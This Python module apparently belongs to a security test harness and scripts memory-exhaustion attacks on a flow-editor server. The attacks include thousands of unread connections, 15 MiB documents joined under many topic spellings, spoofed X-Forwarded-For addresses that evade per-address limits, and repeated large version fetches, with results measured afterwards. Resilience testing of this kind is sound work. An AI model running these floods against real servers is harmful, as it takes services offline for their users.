"""Attacks on the server's memory: what it is asked for, and nobody reads."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator

from attacker import ATTACKER, HOST, MEBIBYTE, Socket, Target, attack, frame

FLOW = "large"
CONNECTIONS = 1000
CONNECTIONS_OF_AN_ADDRESS = 100
SMALL_BUFFER = 4096  # bytes that a socket's own buffer takes, so that what isn't read waits


def _address(number: int) -> str:
    """An attacker has many."""
    return f"198.51.100.{1 + number // CONNECTIONS_OF_AN_ADDRESS}"


def _large(target: Target, mebibytes: float = 15.0, flow: str = FLOW) -> None:
    """A flow whose document is so large."""
    nodes = int(mebibytes * 64)
    data = {"text": 'a "text" ' * (MEBIBYTE // 64 // 11)}
    document = {
        "nodes": {
            f"n{n}": {"id": f"n{n}", "position": {"x": 0, "y": n}, "data": data}
            for n in range(nodes)
        }
    }
    target.make_flow(flow, document)


def _spellings() -> Iterator[str]:
    """Topics of one flow."""
    for left in range(10):
        for right in range(10):
            yield f"flow:{' ' * left}{FLOW}{' ' * right}"


def _join(topic: str, client_id: str, **more: object) -> bytes:
    payload = {"mode": "document", "client_id": client_id, **more}
    return json.dumps([None, topic, topic, "phx_join", payload]).encode()


def _unread(target: Target, number: int) -> socket.socket:
    """A connection that nothing will be read from."""
    raw = socket.socket()
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
    raw.settimeout(20.0)
    raw.connect((HOST, target.port))
    return raw


def _get(target: Target, path: str, number: int) -> socket.socket:
    raw = _unread(target, number)
    raw.sendall(
        f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\n"
        f"X-Forwarded-For: {_address(number)}\r\n\r\n".encode()
    )
    return raw


def _poll_session(target: Target, number: int) -> str:
    _, answer = target.request("GET", "/socket/longpoll?vsn=2.0.0", address=_address(number))
    return str(json.loads(answer)["token"])


def _post_joins(target: Target, number: int, joins: list[bytes]) -> str:
    """Join by one POST of long polling; the session's token."""
    token = _poll_session(target, number)
    raw = _unread(target, number)
    body = b"\n".join(joins)
    raw.sendall(
        (
            f"POST /socket/longpoll?vsn=2.0.0&token={token} HTTP/1.1\r\nHost: {HOST}\r\n"
            f"X-Forwarded-For: {_address(number)}\r\nContent-Type: application/x-ndjson\r\n"
            f"Content-Length: {len(body)}\r\n\r\n"
        ).encode()
        + body
    )
    return token


def _open(target: Target, number: int) -> Socket:
    return target.socket(_address(number))


@attack
def joins_unread(target: Target) -> None:
    """Join one flow of 15 MiB a hundred times on one connection, spelled in as many ways."""
    _large(target)
    client = _open(target, 0)
    client.send(b"".join(frame(_join(topic, f"c{n}")) for n, topic in enumerate(_spellings())))
    _wait(target)


@attack
def joins_of_versions(target: Target) -> None:
    """Join a flow of 15 MiB, on many connections, each at a version of its own."""
    _large(target)
    editor = _open(target, 999)
    kept = []
    for number in range(100):
        client = _open(target, number)
        client.send(frame(_join(f"flow:{FLOW}", f"c{number}")))
        kept.append(client)
        time.sleep(0.05)
        target.request(
            "PATCH", f"/api/flows/{FLOW}", json.dumps({"title": str(number)}).encode(), address=HOST
        )
    editor.close()
    _wait(target)


@attack
def longpoll_post(target: Target) -> None:
    """The same by one POST of long polling, of which nothing is fetched."""
    _large(target)
    kept = _post_joins(target, 0, [_join(topic, f"c{n}") for n, topic in enumerate(_spellings())])
    _wait(target)
    target.told.append("never polled" if kept else "")


@attack
def gets_unread(target: Target) -> None:
    """Ask for a flow of 15 MiB on 60 connections, and read no answer."""
    _large(target)
    kept = [_get(target, f"/api/flows/{FLOW}", number) for number in range(60)]
    _wait(target)
    _tell(target, kept)


@attack
def crowd(target: Target) -> None:
    """A thousand connections: joins that aren't read, long polls, and GETs that aren't read."""
    _large(target)
    kept: list[object] = []
    refused = 0
    for number in range(CONNECTIONS):
        try:
            if number % 3 == 0:
                client = _open(target, number)
                kept.append(client)
                client.send(
                    b"".join(
                        frame(_join(topic, f"c{number}-{n}", parts=bool(number % 2)))
                        for n, topic in zip(range(10), _spellings(), strict=False)
                    )
                )
            elif number % 3 == 1:
                kept.append(_get(target, f"/api/flows/{FLOW}", number))
            else:
                token = _post_joins(target, number, [_join(f"flow:{FLOW}", f"c{number}")])
                path = f"/socket/longpoll?vsn=2.0.0&token={token}"
                kept.append(_get(target, path, number))
        except OSError:
            refused += 1
    target.told.append(f"{refused} refused")
    target.until = max(target.until, time.monotonic() + 5)
    _wait(target)
    del kept


@attack
def list_of_large_descriptions(target: Target) -> None:
    """Ask for the list of 200 flows whose titles and descriptions are as long as they may be."""
    for number in range(200):
        target.make_flow(f"f{number}", {"title": "t" * 500, "description": "x" * 10_000})
    begun = time.monotonic()
    _, body = target.request("GET", "/api/flows?limit=200")
    target.told.append(f"{len(body) / MEBIBYTE:.1f} MiB in {time.monotonic() - begun:.1f} s")
    _wait(target)


def _log_of_large_entries(target: Target, entries: int, flow: str = FLOW) -> None:
    """A log whose entries are of 240 KiB each."""
    target.make_flow(flow, {})
    for number in range(entries):
        patch = json.dumps({"data": {"text": str(number).ljust(240 * 1024, "x")}}).encode()
        status, answer = target.request("PATCH", f"/api/flows/{flow}", patch, address=HOST)
        assert status == 200, answer[:200]


@attack
def entries_at_once(target: Target) -> None:
    """Ask for a thousand entries of 240 KiB in one GET, on ten connections that are not read."""
    _log_of_large_entries(target, 400)
    begun = time.monotonic()
    _, body = target.request("GET", f"/api/flows/{FLOW}/entries?limit=1000")
    target.told.append(f"{len(body) / MEBIBYTE:.1f} MiB in {time.monotonic() - begun:.1f} s")
    kept = [_get(target, f"/api/flows/{FLOW}/entries?limit=1000", n) for n in range(10)]
    _wait(target)
    _tell(target, kept)


@attack
def loads_of_the_past(target: Target) -> None:
    """Ask for early versions of a log of 96 MiB, by three clients, again and again."""
    _log_of_large_entries(target, 400)
    times: list[float] = []

    def ask(number: int) -> None:
        while target.goes_on:
            try:
                target.request("GET", f"/api/flows/{FLOW}?version={390 - number}", address=ATTACKER)
            except OSError:
                time.sleep(0.1)

    threads = [threading.Thread(target=ask, args=(n,), daemon=True) for n in range(3)]
    target.until = max(target.until, time.monotonic() + 8)
    for thread in threads:
        thread.start()
    failed = 0
    target.make_flow("innocent", {})
    while target.goes_on:
        begun = time.monotonic()
        status, _ = target.request("GET", "/api/flows?limit=1", address="203.0.113.2")
        failed += status != 200
        times.append(time.monotonic() - begun)
        time.sleep(0.02)
    times.sort()
    target.told.append(
        f"a list takes {1000 * times[len(times) // 2]:.0f} ms,"
        f" p99 {1000 * times[int(len(times) * 0.99)]:.0f} ms,"
        f" {failed} of {len(times)} failed"
    )
    for thread in threads:
        thread.join()


def _wait(target: Target) -> None:
    while target.goes_on:
        time.sleep(0.1)


def _tell(target: Target, kept: list[socket.socket]) -> None:
    target.told.append(f"{len(kept)} not read")
